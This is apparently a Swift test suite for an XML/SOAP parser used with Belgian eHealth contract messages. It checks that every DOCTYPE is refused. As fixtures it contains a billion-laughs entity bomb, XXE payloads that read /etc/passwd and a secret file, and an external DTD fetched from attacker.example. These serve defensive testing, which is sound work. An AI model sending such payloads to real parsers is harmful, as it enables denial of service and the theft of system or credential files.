import Foundation
import Generated
import Testing

/// Any DOCTYPE is refused before its declarations run: no entity expansion bomb, no external
/// entity read from disk, and nothing of such a file ever reaches a value or an error message.
@Suite struct HostileDocumentTests {
    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
          <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
          <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
          <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <certra:GenerateContractResponse xmlns:certra="urn:be:fgov:ehealth:certra:protocol:v2" Id="r" IssueInstant="2026-03-14T09:26:53Z">
          <core:Status xmlns:core="urn:be:fgov:ehealth:commons:core:v2"><core:StatusCode Value="urn:be:fgov:ehealth:2.0:status:Success"/>
          <core:StatusMessage>&lol9;</core:StatusMessage></core:Status>
        </certra:GenerateContractResponse>
        """

    /// A response whose status message would receive the contents of `file` if entities were expanded.
    static func externalEntity(reading file: String) -> String {
        """
        <?xml version="1.0"?>
        <!DOCTYPE foo [ <!ENTITY xxe SYSTEM "\(file)"> ]>
        <certra:GenerateContractResponse xmlns:certra="urn:be:fgov:ehealth:certra:protocol:v2" Id="r" IssueInstant="2026-03-14T09:26:53Z">
          <core:Status xmlns:core="urn:be:fgov:ehealth:commons:core:v2"><core:StatusCode Value="urn:be:fgov:ehealth:2.0:status:Success"/>
          <core:StatusMessage>&xxe;</core:StatusMessage></core:Status>
        </certra:GenerateContractResponse>
        """
    }

    @Test func anEntityExpansionBombIsRefused() throws {
        let error = try #require(throws: XMLError.self) { try GenerateContractResponseType(xmlDocument: Self.billionLaughs) }
        #expect(error.code == .doctypeForbidden)
        #expect(!error.description.contains("lollol"))
    }

    @Test func anExternalEntityOnEtcPasswdIsRefusedAndNothingOfTheFileAppears() throws {
        let error = try #require(throws: XMLError.self) {
            try GenerateContractResponseType(xmlDocument: Self.externalEntity(reading: "file:///etc/passwd"))
        }
        #expect(error.code == .doctypeForbidden)
        #expect(!error.description.contains("root:"))
        if let passwd = try? String(contentsOfFile: "/etc/passwd", encoding: .utf8), let firstLine = passwd.split(separator: "\n").first {
            #expect(!error.description.contains(firstLine))
        }
    }

    @Test func anExternalEntityOnASecretFileNeverLeaksItsContent() throws {
        let marker = "SECRET-\(UUID().uuidString)"
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("xxe-\(UUID().uuidString).txt")
        try marker.write(to: file, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(at: file) }
        let document = Self.externalEntity(reading: file.absoluteString)

        let error = try #require(throws: XMLError.self) { try GenerateContractResponseType(xmlDocument: document) }
        #expect(error.code == .doctypeForbidden)
        #expect(!error.description.contains(marker))

        let envelope = """
            <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>\
            \(document.replacingOccurrences(of: #"<?xml version="1.0"?>"#, with: ""))</soapenv:Body></soapenv:Envelope>
            """
        // A DOCTYPE inside the body (not even well-formed) or in front of the envelope: the byte scan
        // of the hardened parse refuses either before libxml2 reads a declaration.
        let inside = try #require(throws: XMLError.self) { try SOAPEnvelope.parse(Data(envelope.utf8)) }
        #expect(inside.code == .doctypeForbidden)
        #expect(!inside.description.contains(marker))
        let inFront = #"<!DOCTYPE soapenv:Envelope [ <!ENTITY xxe SYSTEM ""# + file.absoluteString + #""> ]>"#
            + #"<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><x>&xxe;</x></soapenv:Body></soapenv:Envelope>"#
        let refused = try #require(throws: XMLError.self) { try SOAPEnvelope.parse(Data(inFront.utf8)) }
        #expect(refused.code == .doctypeForbidden)
        #expect(!refused.description.contains(marker))
    }

    @Test(arguments: [
        #"<!DOCTYPE r><r/>"#,
        #"<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>"#,
        #"<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><r/>"#,
        #"<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p; ]><r/>"#,
    ])
    func everyDoctypeIsRefused(_ text: String) throws {
        let error = try #require(throws: XMLError.self) { try GetCertificateRequestType(xmlDocument: text) }
        #expect(error.code == .doctypeForbidden)
    }
}
